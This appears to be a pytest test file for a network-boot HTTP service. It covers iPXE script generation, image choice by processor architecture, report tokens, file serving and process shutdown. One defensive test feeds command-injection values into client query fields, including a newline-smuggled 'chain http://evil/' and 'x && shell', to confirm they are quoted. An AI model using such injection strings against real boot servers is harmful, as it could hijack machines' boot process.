import json
import re
import socket
import subprocess
import sys
from dataclasses import replace

import pytest

from netboot.boot.files.names import Refusal
from netboot.boot.told.events import ContentStarted, PeReported
from netboot.daemons.boot_http import BootPages
from netboot.daemons.projector import catch_up
from netboot.images.architecture import Architecture
from netboot.images.versions.content_version import ManifestFile
from netboot.operations.boots import boots
from netboot.serve.http.boot_app import BootSite, boot_app
from netboot.serve.http.message import Request
from netboot.site import Site
from tests.support.content import assign, content_of, serve, version_of
from tests.support.dhcp_servers import wait_for
from tests.support.settling import settled

ADDRESS = "10.77.0.2"
MAC = "52:54:00:77:00:01"


@pytest.fixture
def x64(site):
    return serve(site, version_of(site, 3))


@pytest.fixture
def x86(site):
    return serve(site, version_of(site, 5, image="Lab PE x86", architecture=Architecture.X86))


def pages(site):
    return BootPages(site, address=ADDRESS)


def script(site, **query):
    return pages(site).script({"mac": MAC, **query}, "10.77.0.101")


def test_a_bios_machine_is_asked_for_its_processor(site, x64, x86):
    """Both images would start there; only the processor can tell which is right."""
    found = script(site, platform="pcbios", nic="01:80:86:10:0e")

    assert (found.image, found.version) == ("", 0)
    assert "cpuid --ext 29" in found.text
    again = re.search(r"http://10\.77\.0\.2:8081/boot\.ipxe\?(\S+)&cpu=\$\{cpu\}", found.text)
    assert dict(pair.split("=") for pair in again[1].split("&")) == {
        "mac": MAC,
        "nic": "01:80:86:10:0e",
        "platform": "pcbios",
    }


@pytest.mark.parametrize(
    ("query", "label"),
    [
        ({"platform": "pcbios", "cpu": "x64"}, ("Lab PE x64", 3)),
        ({"platform": "pcbios", "cpu": "x86"}, ("Lab PE x86", 5)),
        ({"platform": "efi", "arch": "x64"}, ("Lab PE x64", 3)),
        ({"platform": "efi"}, ("Lab PE x64", 3)),
        ({"platform": "efi", "arch": "x86"}, ("Lab PE x86", 5)),
        ({"platform": "efi", "arch": "made up"}, ("Lab PE x64", 3)),
    ],
)
def test_each_machine_gets_the_image_that_it_can_start(site, x64, x86, query, label):
    """The script names the version's own files, by their exact address."""
    found = script(site, **query)

    assert label == (found.image, found.version)
    assert query.get("cpu", "") == found.architecture
    assert f"/v/{label[0].lower().replace(' ', '-')}/{label[1]}/vmlinuz" in found.text
    assert "cpuid" not in found.text


def test_a_64_bit_machine_makes_do_with_the_32_bit_image(site, x86):
    """Where nothing else is published, and by BIOS only: 64-bit UEFI cannot start it."""
    assert script(site, platform="pcbios", cpu="x64").image == "Lab PE x86"
    assert script(site, platform="pcbios").image == "Lab PE x86"
    assert script(site, platform="pcbios", cpu="made up").architecture == ""
    refused = script(site, platform="efi", arch="x64")
    assert (refused.image, refused.reason) == ("", "no default image for x64")


def test_where_nothing_is_published_the_machine_says_so_on_its_screen(site):
    """A refusal is a script, too: it tells why and lets go."""
    for platform in ("pcbios", "efi"):
        found = script(site, platform=platform)
        assert "nothing to boot for 52:54:00:77:00:01" in found.text
        assert found.text.startswith("#!ipxe\n")
        assert "no default image for x64" in found.reason


@pytest.mark.parametrize("spelling", [MAC, MAC.upper(), MAC.replace(":", "-")])
def test_an_assigned_machine_gets_its_own_image_however_it_spells_itself(site, x64, x86, spelling):
    """Its processor need not be asked."""
    assign(site, MAC, "Lab PE x86")

    assert script(site, mac=spelling, platform="pcbios").image == "Lab PE x86"
    assert script(site, mac="52:54:00:77:00:02", platform="pcbios").image == ""


def test_an_assigned_image_that_is_not_published_is_not_replaced_by_another(site, x64):
    """A machine that was meant to get one image must not silently get another."""
    assign(site, MAC, "Windows PE 11")
    found = script(site, platform="efi")

    assert ("", f"{MAC} is assigned 'Windows PE 11', which is not published here") == (
        found.image,
        found.reason,
    )


def test_an_assigned_image_that_cannot_be_started_is_refused(site, x64, x86):
    """As proxyDHCP refuses it: x86 does not start on 64-bit UEFI."""
    assign(site, MAC, "Lab PE x86")

    found = script(site, platform="efi", arch="x64")
    assert "an x86 image, but it is a 64-bit UEFI PC" in found.reason


def test_a_32_bit_processor_does_not_get_a_64_bit_image(site, x64):
    """Neither the default nor the assigned one; the machine's screen says why."""
    refused = script(site, platform="pcbios", cpu="x86")
    assign(site, MAC, "Lab PE x64")

    assert (
        refused.image,
        refused.reason,
    ) == ("", "Lab PE x64 v3 needs a 64-bit processor, and this one has 32 bits")
    assert refused == script(site, platform="pcbios", cpu="x86")


@pytest.mark.parametrize(
    "evil",
    [
        "x\nchain http://evil/",
        "x && shell",
        "${cpu}",
        "x#",
        "x y",
        "x&y=z",
        '"x"',
        "x%0achain",
        "ü",
    ],
)
def test_what_a_client_says_never_becomes_a_command(site, x64, x86, evil):
    """The second script asks again with the same words, and they are quoted."""
    text = script(site, platform="pcbios", uuid=evil, **{evil: evil}).text

    assert [line.split()[0] for line in text.splitlines()] == ["#!ipxe", "cpuid", "chain"]
    words = text.splitlines()[2].split()
    assert words[:3] == ["chain", "--replace", "--autofree"]
    assert len(words) == 4
    assert words[3].count("${") == 1


def test_a_machine_with_a_strange_name_gets_a_token_without_it(site, x64):
    """Only a MAC address goes into a token; a report then speaks for itself."""
    found = script(site, mac="x" * 5000, platform="efi")

    assert len(max(found.text.splitlines(), key=len)) < 1000


def token_of(found):
    return re.search(r"labpe\.report=http://10\.77\.0\.2:8081/report/(\S+)", found.text)[1]


def test_a_report_with_our_token_is_noted_with_what_it_found(site, x64):
    """Image and version come from inside the WIM, the machine from the token."""
    served = pages(site)
    token = token_of(served.script({"mac": MAC, "platform": "efi"}, "10.77.0.101"))
    body = json.dumps({"image": "Lab PE x64", "version": 2, "driver": "e1000.inf"}).encode()

    assert served.report(token, body, "10.77.0.101") is None
    assert site.journal.flush()
    (entry,) = site.journal.latest()
    assert (PeReported, MAC, "Lab PE x64", 2, "e1000.inf") == (
        type(entry.event),
        entry.event.mac,
        entry.event.image,
        entry.event.version,
        entry.event.driver,
    )


def test_a_report_with_another_token_is_refused_and_not_noted(site, x64):
    """Nobody can put machines into the journal from outside."""
    refusal = pages(site).report("guess", b"{}", "10.77.0.9")

    assert isinstance(refusal, Refusal)
    assert site.journal.flush()
    assert site.journal.latest() == []


def test_files_of_a_version_are_served_by_their_whole_name(site, x64):
    """And what is not held is refused with a reason."""
    served = pages(site)
    ref = served.resolve_url("/v/lab-pe-x64/3/boot.wim")
    content = served.open_content(ref)

    assert content_of("boot.wim", 3) == bytes(content.view)
    content.close()
    for path in ("/v/lab-pe-x64/4/boot.wim", "/v/lab-pe-x64/3/none", "/p/none", "/secret"):
        assert isinstance(served.resolve_url(path), Refusal), path


def test_an_update_is_taken_up_while_we_serve(site, x64):
    """New scripts name the new version; the old one's files stay for boots that have begun."""
    served = pages(site)
    assert served.script({"platform": "efi"}, "ip").version == 3
    serve(site, version_of(site, 4))

    assert served.script({"platform": "efi"}, "ip").version == 4
    assert not isinstance(served.resolve_url("/v/lab-pe-x64/3/boot.wim"), Refusal)


def test_a_lost_blob_is_503_and_never_404(site, x64):
    """A client must not be told that a version has no such file when our disk has lost it."""
    site.point.blobs.remove(x64.file("boot.wim").digest)
    served = pages(site)
    answer = boot_app(
        BootSite(
            resolve_url=served.resolve_url,
            open_content=served.open_content,
            script=served.script,
            report=served.report,
            emit=site.journal.emit,
        )
    )

    assert answer(Request("GET", "/v/lab-pe-x64/3/boot.wim", "10.0.0.1")).status == 503
    assert answer(Request("GET", "/v/lab-pe-x64/9/boot.wim", "10.0.0.1")).status == 404
    assert answer(Request("POST", "/report/guess", "10.0.0.1")).status == 403
    assert (
        answer(
            Request(
                "POST",
                f"/report/{token_of(served.script({'platform': 'efi'}, ''))}",
                "10.0.0.1",
                body=b"{}",
            )
        ).status
        == 204
    )


@pytest.mark.loopback
def test_the_process_serves_and_ends_when_it_is_told(site, x64):
    """`netboot http` on a port of this machine: a script, a file, and a clean end on SIGTERM."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    (site.data / "netboot.toml").write_text(f"http_port = {port}\n")
    command = [sys.executable, "-m", "netboot", "--data", site.data]
    process = subprocess.Popen(
        [*command, "http", "--address", "127.0.0.1"],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    try:
        assert "http.ready" in process.stdout.readline()
        url = f"http://127.0.0.1:{port}"
        got = subprocess.run(
            ["curl", "-s", "-f", "--retry", "10", "--retry-connrefused", "--retry-delay", "1",
             f"{url}/boot.ipxe?mac={MAC}&platform=efi", f"{url}/v/lab-pe-x64/3/boot.wim"],
            check=True, capture_output=True, text=True,
        ).stdout  # fmt: skip
        assert f"http://127.0.0.1:{port}/v/lab-pe-x64/3/vmlinuz" in got
        assert got.endswith(content_of("boot.wim", 3).decode())
        process.terminate()
        assert process.wait(20) == 0
    finally:
        process.kill()
        process.wait()
        process.stdout.close()
    kinds = [entry.event.kind for entry in site.journal.latest()]
    assert kinds == ["ContentServed", "ScriptServed"]


@pytest.fixture
def large(site):
    """A version whose image no socket buffer holds."""
    content = b"image " * 4_000_000
    blob = site.blobs.add_bytes(content)
    file = ManifestFile("boot.wim", blob.digest, blob.size)
    version = replace(version_of(site, 3), files=(file,))
    site.point.update(version, site.blobs, now=1e9)
    policy = ({Architecture.X64: version.image}, {})
    site.point.publish_policy(lambda: policy)
    (site.data / "netboot.toml").write_text(f"http_port = {free_port()}\n")
    return Site.open(site.data)


def free_port():
    with socket.socket() as tcp:
        tcp.bind(("127.0.0.1", 0))
        return tcp.getsockname()[1]


def started_http(site):
    command = [sys.executable, "-m", "netboot", "--data", str(site.data)]
    process = subprocess.Popen(
        [*command, "http", "--interface", "lo", "--address", "127.0.0.1"],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    wait_for(process, "http.ready")
    return process


def test_a_service_that_is_killed_in_the_middle_of_a_file_is_named_on_the_boot(large):
    """By HTTP as by TFTP; it was started again meanwhile, and serves the next machine."""
    process = started_http(large)
    with socket.create_connection(("127.0.0.1", large.settings.http_port)) as machine:
        machine.sendall(b"GET /v/lab-pe-x64/3/boot.wim HTTP/1.1\r\nHost: x\r\n\r\n")
        assert machine.recv(1000).startswith(b"HTTP/1.1 200")
        assert settled(lambda: -len(begun(large)), -1, seconds=20) == -1
        process.kill()
    process.wait()
    process.stdout.close()

    again = started_http(large)
    again.terminate()
    assert again.wait(30) == 0
    again.stdout.close()
    catch_up(large)
    (boot,) = boots.attempts(large)
    assert "netboot stopped while it sent" in boot.why(boot.last + 200)
    large.database.close()
    large.journal.close()


def begun(site):
    return site.journal.latest_of(ContentStarted, limit=10, within=1000)
